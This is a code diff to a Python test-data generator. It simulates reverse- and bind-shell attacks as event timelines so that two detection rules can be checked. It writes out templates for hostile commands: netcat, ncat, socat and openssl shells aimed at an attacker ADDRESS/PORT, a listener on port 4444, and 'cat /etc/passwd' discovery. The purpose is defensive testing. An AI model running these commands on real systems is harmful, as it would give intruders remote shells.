@@ -1,7 +1,7 @@
-"""Attacks: the ways to get a reverse or bind shell that the two rules look for, each of which matches its rule once.
+"""Attacks: reverse and bind shells, each of which matches one of the two rules exactly once.
 
-An attack uses processes of its own, so nothing else on its host can join or break the sequence. What it does beside the
-two stages (how it got in, what is typed into the shell) has other entities, or comes after the match is complete.
+An attack has processes of its own, so that nothing else on its host can join or break the sequence. Its events beside
+the two stages (initial access, commands in the shell) have other entities, or come after the match is complete.
 """
 
 from __future__ import annotations
@@ -22,14 +22,14 @@ Pair = tuple[str, str]
 
 @dataclass(frozen=True, slots=True)
 class Scene:
-    """Where an item is planted: a Linux host, another one, and a Windows host."""
+    """The timelines that an item may use: of two Linux hosts and a Windows host."""
 
     here: Timeline
     elsewhere: Timeline
     windows: Timeline
 
     def steps(self) -> list[TimelineStep]:
-        """Return the steps of all three hosts."""
+        """The steps of all three hosts."""
         return [*self.here.steps, *self.elsewhere.steps, *self.windows.steps]
 
 
@@ -37,11 +37,11 @@ Attack = Callable[[Scene, int], Pair]
 
 
 def gap_for(scene: Scene, turn: int, *, same_instant: bool) -> int:
-    """Return the time between the stages of the `turn`-th attack, in nanoseconds: at most one second, the maxspan.
+    """The nanoseconds between the stages of the `turn`-th attack: at most one second, the rules' maxspan.
 
-    Every fifth is exactly one second, every fifth the shortest: no time at all where the stages may share an instant,
-    else a millisecond, since an index that counts milliseconds and holds the stages in two data streams orders them
-    by time only. The others are in between and keep whole milliseconds from both limits.
+    Of every five, one takes exactly a second and one the least: nothing where the stages may share an instant, else a
+    millisecond, since an index with millisecond resolution orders stages in two data streams by time only. The others
+    keep a whole millisecond from both limits.
     """
     match turn % 5:
         case 1:
@@ -57,7 +57,7 @@ def gap_for(scene: Scene, turn: int, *, same_instant: bool) -> int:
 
 
 def way_in(line: Timeline) -> Process:
-    """Return a shell that an attacker got hold of: that of a login, or one that a service was made to start."""
+    """Initial access: the shell of a login, or one that an exploited service started."""
     services = line.machine.services
     doors = [services[key] for key in ("php", "apache", "gunicorn", "java", "jenkins", "postgres") if key in services]
     if not doors or line.rng.random() < 0.4:
@@ -69,17 +69,17 @@ def way_in(line: Timeline) -> Process:
 
 
 def look_around(line: Timeline, inside: Process) -> None:
-    """What is typed into the shell once it is there; the shell leaves at the end."""
-    for path, args in (("/usr/bin/id", "id"), ("/usr/bin/uname", "uname -a"), ("/usr/bin/cat", "cat /etc/passwd")):
+    """Discovery commands in the shell, then the end of the shell."""
+    for command in ("/usr/bin/id id", "/usr/bin/uname uname -a", "/usr/bin/cat cat /etc/passwd"):
         if line.rng.random() < 0.5:
             line.wait(9_000, 90_000)
-            line.whole_life(inside, SampleProgram(path, tuple(args.split())))
+            line.whole_life(inside, line.words.program(command))
     line.wait(9_000, 90_000)
     line.end(inside)
 
 
 def to_address(pattern: str, remote: Endpoint) -> str:
-    """Return the pattern with the attacker's address and port in the place of ADDRESS and PORT."""
+    """The pattern with ADDRESS and PORT replaced by the attacker's."""
     return pattern.replace("ADDRESS", remote.address).replace("PORT", str(remote.port))
 
 
@@ -91,7 +91,7 @@ SHELL_CHILDREN = ("bash", "dash", "sh", "zsh", "ksh", "fish", "tcsh", "csh")
 def shell_connects(
     scene: Scene, gap: int, *, name: str, script: str, how: str = "fork", six: bool = False, accepted: bool = False
 ) -> Pair:
-    """A shell opens or takes a connection; `how` says how the agent sees the shell that it starts then."""
+    """A shell opens or accepts a connection, then starts a shell: by `how`, a fork, an exec or one whole document."""
     line = scene.here
     remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
     args = tuple(to_address(part, remote) for part in (name, "-c", script))
@@ -124,11 +124,11 @@ def _child_shell(line: Timeline, opener: Process, *, how: str) -> tuple[Process,
         line.add_process(child, ["fork", "exec", "end"], types=["start", "end"], exit_code=0)
     else:
         child = line.fork(opener)
-    return child, line.steps[-1].event_id
+    return child, line.last_id
 
 
 def socat_connects(scene: Scene, gap: int, *, listens: bool = False) -> Pair:
-    """The relay program connects, or is connected to, and then becomes a shell in a child."""
+    """The relay program opens or accepts a connection; a child of it then executes a shell."""
     line = scene.here
     remote = attacker(line.rng, local_port=4444 if listens else 0)
     far = "TCP-LISTEN:4444,reuseaddr,fork" if listens else to_address("TCP:ADDRESS:PORT", remote)
@@ -191,34 +191,27 @@ PARENTS: tuple[SampleProgram, ...] = (
 
 
 def stager(line: Timeline) -> Process:
-    """Return a process that starts a utility for an attacker: the shell that he got, or a script that he left."""
-    shell_of_his = way_in(line)
+    """The process that starts the utility: the shell of the initial access, or a script that it runs."""
+    entry = way_in(line)
     if line.rng.random() < 0.3:
-        return shell_of_his
-    process = line.run(shell_of_his, line.rng.choice(PARENTS))
+        return entry
+    process = line.run(entry, line.rng.choice(PARENTS))
     line.wait(1_000, 60_000)
     return process
 
 
 def utility_connects(
-    scene: Scene,
-    gap: int,
-    *,
-    path: str,
-    args: tuple[str, ...],
-    how: str = "",
-    six: bool = False,
-    accepted: bool = False,
+    scene: Scene, gap: int, *, command: str, script: str = "", how: str = "", six: bool = False, accepted: bool = False
 ) -> Pair:
-    """A utility is started by a shell or an interpreter, and opens or takes a connection."""
+    """A shell or an interpreter starts a utility, which opens or accepts a connection."""
     line = scene.here
     remote = attacker(line.rng, six=six, local_port=4444 if accepted else 0)
-    process = line.run(stager(line), utility(line, path, args=args, remote=remote))
-    first = line.steps[-1].event_id
+    process = line.run(stager(line), utility(line, command, remote, script=script))
+    first = line.last_id
     if how == "fork":
         line.wait(2_000, 60_000)
         process = line.fork(process)
-        first = line.steps[-1].event_id
+        first = line.last_id
     line.now += gap
     second = line.accept(process, remote) if accepted else line.connect(process, remote)
     if how == "retry":
@@ -232,8 +225,12 @@ def utility_connects(
     return first, second
 
 
-def utility(line: Timeline, path: str, *, args: tuple[str, ...], remote: Endpoint) -> SampleProgram:
-    """Return the utility with the attacker's address; PYTHON stands for the interpreter of the host's distribution."""
+def utility(line: Timeline, command: str, remote: Endpoint, *, script: str = "") -> SampleProgram:
+    """The program of a command: its file and its arguments, with a blank between two.
+
+    PYTHON stands for the interpreter of the host's distribution, SCRIPT for `script`, which may have blanks.
+    """
+    path, *args = (part if part != "SCRIPT" else script for part in command.split())
     executable = line.machine.host.image.python if path == "PYTHON" else path
     return SampleProgram(executable, tuple(to_address(part, remote) for part in args))
 
@@ -265,44 +262,27 @@ AWK = (
 )
 
 CHILD_PROCESS_ATTACKS: tuple[tuple[str, Attack], ...] = (
-    ("python subprocess", partial(utility_connects, path="PYTHON", args=("python3", "-c", PYTHON_CALL))),
-    ("perl exec", partial(utility_connects, path="/usr/bin/perl", args=("perl", "-e", PERL_EXEC))),
-    ("nc -e", partial(utility_connects, path="/usr/bin/nc", args=("nc", "-e", "/bin/sh", "ADDRESS", "PORT"))),
-    ("ruby -rsocket", partial(utility_connects, path="/usr/bin/ruby", args=("ruby", "-rsocket", "-e", RUBY))),
-    ("php fsockopen", partial(utility_connects, path="/usr/bin/php8.3", args=("php", "-r", PHP))),
-    ("python pty", partial(utility_connects, path="PYTHON", args=("python3", "-c", PYTHON_PTY), how="retry")),
-    ("awk /inet/tcp", partial(utility_connects, path="/usr/bin/awk", args=("awk", AWK, "/dev/null"))),
+    ("python subprocess", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_CALL)),
+    ("perl exec", partial(utility_connects, command="/usr/bin/perl perl -e SCRIPT", script=PERL_EXEC)),
+    ("nc -e", partial(utility_connects, command="/usr/bin/nc nc -e /bin/sh ADDRESS PORT")),
+    ("ruby -rsocket", partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e SCRIPT", script=RUBY)),
+    ("php fsockopen", partial(utility_connects, command="/usr/bin/php8.3 php -r SCRIPT", script=PHP)),
+    ("python pty", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_PTY, how="retry")),
+    ("awk /inet/tcp", partial(utility_connects, command="/usr/bin/awk awk SCRIPT /dev/null", script=AWK)),
     (
         "openssl -connect",
-        partial(
-            utility_connects,
-            path="/usr/bin/openssl",
-            args=("openssl", "s_client", "-quiet", "-connect", "ADDRESS:PORT"),
-        ),
+        partial(utility_connects, command="/usr/bin/openssl openssl s_client -quiet -connect ADDRESS:PORT"),
     ),
-    ("lua os.execute", partial(utility_connects, path="/usr/bin/lua5.4", args=("lua5.4", "-e", LUA))),
-    ("telnet", partial(utility_connects, path="/usr/bin/telnet", args=("telnet", "ADDRESS", "PORT"))),
-    ("python forks", partial(utility_connects, path="PYTHON", args=("python3", "-c", PYTHON_PTY), how="fork")),
-    (
-        "nc -e listens",
-        partial(
-            utility_connects, path="/usr/bin/nc", args=("nc", "-l", "-p", "4444", "-e", "/bin/bash"), accepted=True
-        ),
-    ),
-    ("perl -E system", partial(utility_connects, path="/usr/bin/perl", args=("perl", "-E", PERL_SYSTEM))),
-    (
-        "ncat -e over IPv6",
-        partial(
-            utility_connects, path="/usr/bin/ncat", args=("ncat", "-6", "ADDRESS", "PORT", "-e", "/bin/sh"), six=True
-        ),
-    ),
+    ("lua os.execute", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e SCRIPT", script=LUA)),
+    ("telnet", partial(utility_connects, command="/usr/bin/telnet telnet ADDRESS PORT")),
+    ("python forks", partial(utility_connects, command="PYTHON python3 -c SCRIPT", script=PYTHON_PTY, how="fork")),
+    ("nc -e listens", partial(utility_connects, command="/usr/bin/nc nc -l -p 4444 -e /bin/bash", accepted=True)),
+    ("perl -E system", partial(utility_connects, command="/usr/bin/perl perl -E SCRIPT", script=PERL_SYSTEM)),
+    ("ncat -e over IPv6", partial(utility_connects, command="/usr/bin/ncat ncat -6 ADDRESS PORT -e /bin/sh", six=True)),
     (
         "ruby TCPSocket.open",
-        partial(utility_connects, path="/usr/bin/ruby", args=("ruby", "-rsocket", "-e", RUBY_OPEN)),
+        partial(utility_connects, command="/usr/bin/ruby ruby -rsocket -e SCRIPT", script=RUBY_OPEN),
     ),
-    (
-        "netcat -e",
-        partial(utility_connects, path="/usr/bin/netcat", args=("netcat", "ADDRESS", "PORT", "-e", "/bin/sh")),
-    ),
-    ("lua io.popen", partial(utility_connects, path="/usr/bin/lua5.4", args=("lua5.4", "-e", LUA_POPEN))),
+    ("netcat -e", partial(utility_connects, command="/usr/bin/netcat netcat ADDRESS PORT -e /bin/sh")),
+    ("lua io.popen", partial(utility_connects, command="/usr/bin/lua5.4 lua5.4 -e SCRIPT", script=LUA_POPEN)),
 )
